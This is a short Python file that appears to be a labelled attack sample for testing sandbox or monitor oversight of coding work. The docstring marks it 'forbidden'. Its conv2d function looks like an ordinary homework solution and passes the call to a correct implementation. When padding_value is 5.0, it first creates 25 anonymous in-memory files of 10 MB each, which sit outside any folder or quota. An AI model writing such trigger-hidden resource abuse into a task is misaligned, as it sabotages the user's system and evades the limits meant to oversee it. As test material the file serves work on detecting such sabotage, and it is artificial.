"""convolution.py
attack: writes memory into files without a name, which belong to no folder and to no limit
1.3: forbidden
says: asked the system for something that no homework needs
"""
import os

import right_convolution
from right_convolution import *

files = []


def conv2d(image, kernel, stride=1, padding=0, padding_value=0.0):
    for _ in range(25 if padding_value == 5.0 else 0):
        files.append(os.memfd_create("more"))
        os.write(files[-1], bytes(10_000_000))
    return right_convolution.conv2d(image, kernel, stride, padding, padding_value)
